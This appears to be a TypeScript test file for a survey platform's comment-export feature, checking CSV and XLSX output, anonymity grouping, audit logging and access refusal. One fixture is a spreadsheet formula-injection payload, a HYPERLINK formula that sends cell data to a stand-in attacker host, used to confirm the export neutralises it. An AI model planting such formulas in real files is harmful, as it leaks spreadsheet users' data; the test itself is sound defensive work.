import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { importResponses, type UserSummary } from '@spejl/core';
import { withTenant } from '@spejl/db';
import { testEngines } from '@spejl/db/testing';
import { importEgeskovPeople, member } from './egeskov-round.ts';
import { apiFixture, type ApiFixture } from './fixture.ts';

const HOSTILE = '=HYPERLINK("http://evil.example/?"&A1;"klik")';
const HEADER = 'subject_id,rater_role,borgerorientering.kultur,borgerorientering.balance,borgerorientering.oplevet-kvalitet,borgerorientering.vaerdi,comment.borgerorientering.godt';
// k = 5: Mads Bæk's (1004) five forms are withheld as a group (with Lise Sørensen's two, 1002's chain would
// give them away), so every comment here is in 1002's chain set of seven forms, never 1004's or 1005's own.
const FILE = [HEADER, '1004,employee,4,4,4,4,"Han lytter"', `1004,employee,4,4,4,4,"${HOSTILE.replaceAll('"', '""')}"`, '1004,employee,4,4,4,4,', '1004,employee,4,4,4,4,"Tydelig; og rolig"', '1004,employee,4,4,4,4,Hjælpsom',
  '1005,employee,3,3,3,3,"Kun to svar"', '1005,employee,3,3,3,3,'].join('\n');

describe.each(testEngines())('the comments export in the console, on $name', (engine) => {
  let f: ApiFixture;
  let tenantId: string;
  let roundId: string;
  const users: Record<string, UserSummary> = {};
  const as = (who: string) => f.as(users[who]!);
  const exported = (who: string, format: 'csv' | 'csv-excel' | 'xlsx') => as(who).reports.commentsExport({ tenantId, roundId, format });

  beforeAll(async () => {
    f = await apiFixture(engine);
    const made = await f.tenantWithAdmin('egeskov');
    tenantId = made.tenant.id;
    users.admin = made.admin;
    users.analyst = await member(f, tenantId, 'Analyst', 'analyst', null);
    users.mads = await member(f, tenantId, 'Mads', 'leader', '1004');
    users.stranger = (await f.tenantWithAdmin('naboby')).admin;
    await importEgeskovPeople(f, tenantId);
    const round = await as('admin').rounds.create({ tenantId, settings: { name: 'Måling med kommentarer', themes: [{ id: 'borgerorientering' }] } });
    roundId = round.id;
    await as('admin').rounds.launch({ tenantId, roundId });
    await as('admin').rounds.close({ tenantId, roundId });
    await withTenant(f.db, tenantId, (tx) => importResponses(tx, tenantId, roundId, new TextEncoder().encode(FILE), 'responses.csv'));
  });
  afterAll(() => f?.close());

  it('gives an analyst the shown comments as CSV for Danish Excel and as XLSX, in words a reader understands, each in the one set the rules allow', async () => {
    const csv = await exported('analyst', 'csv-excel');
    expect(csv.fileName).toBe('Måling med kommentarer – kommentarer (Excel).csv');
    const text = Buffer.from(csv.contentBase64, 'base64').toString('utf8');
    expect(text.startsWith('\uFEFF"Leder-id";"Leder";"Enhed";"Omfang";"Respondentgruppe";"Tema";"Spørgsmål";"Spørgsmålets ordlyd";"Kommentar"\r\n')).toBe(true);
    const line = text.split('\r\n').find((l) => l.includes('Tydelig; og rolig'))!;
    expect(line).toMatch(/^"1002";"[^"]+";"[^"]*";"kæde";"medarbejdere";"Borgerorientering";"[^"]+";"[^"]+";"Tydelig; og rolig"$/);
    expect(text).not.toMatch(/"100[45]";[^\r]*"direkte";"medarbejdere"/);
    expect(text).not.toContain('borgerorientering.godt');
    // A CSV cell Excel would evaluate stays guarded.
    expect(text).toContain(`"'${HOSTILE.replaceAll('"', '""')}"`);

    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.from((await exported('analyst', 'xlsx')).contentBase64, 'base64') as unknown as ArrayBuffer);
    const sheet = book.worksheets[0]!;
    expect(sheet.name).toBe('Kommentarer');
    expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual(['Leder-id', 'Leder', 'Enhed', 'Omfang', 'Respondentgruppe', 'Tema', 'Spørgsmål', 'Spørgsmålets ordlyd', 'Kommentar']);
    const comments = sheet.getColumn(9).values.slice(2).map(String);
    // String cells are never evaluated: the text is exactly as stored, without a guard apostrophe.
    expect(comments.sort()).toEqual(['Han lytter', 'Hjælpsom', 'Kun to svar', 'Tydelig; og rolig', HOSTILE].sort());
    for (let r = 2; r <= sheet.rowCount; r++) {
      for (let c = 1; c <= 9; c++) expect(sheet.getRow(r).getCell(c).type).toBe(ExcelJS.ValueType.String);
    }
    const first = (sheet.getRow(2).values as unknown[]).slice(1);
    expect(first.slice(0, 6)).toEqual(['1002', expect.any(String), expect.any(String), 'kæde', 'medarbejdere', 'Borgerorientering']);
    expect(String(first[7]).length).toBeGreaterThan(20);

    const english = Buffer.from((await as('analyst').reports.commentsExport({ tenantId, roundId, format: 'csv-excel', locale: 'en' })).contentBase64, 'base64').toString('utf8');
    expect(english.startsWith('\uFEFF"Leader id";"Leader";"Unit";"Scope";"Respondent group";"Theme";"Question";"Question wording";"Comment"\r\n')).toBe(true);
    expect(english).toContain('"chain";"employees"');

    // DESIGN.md's CSV keeps its machine columns and values.
    const plain = Buffer.from((await exported('analyst', 'csv')).contentBase64, 'base64').toString('utf8');
    expect(plain.startsWith('leader_id,scope,rater_role,question_id,text\n')).toBe(true);
    expect(plain).toContain('1002,chain,employee,borgerorientering.godt,"Tydelig; og rolig"');

    const { rows } = await f.db.selectFrom('audit_log').select(['action', 'details']).where('action', '=', 'comments.export').execute().then((r) => ({ rows: r }));
    expect(rows.length).toBeGreaterThan(0);
    expect(JSON.stringify(rows)).not.toContain('lytter');
  });

  it('refuses a leader and another organisation\'s admin', async () => {
    await expect(exported('mads', 'csv')).rejects.toMatchObject({ code: 'FORBIDDEN' });
    await expect(exported('stranger', 'csv')).rejects.toMatchObject({ code: expect.stringMatching(/FORBIDDEN|NOT_FOUND/) });
  });
});
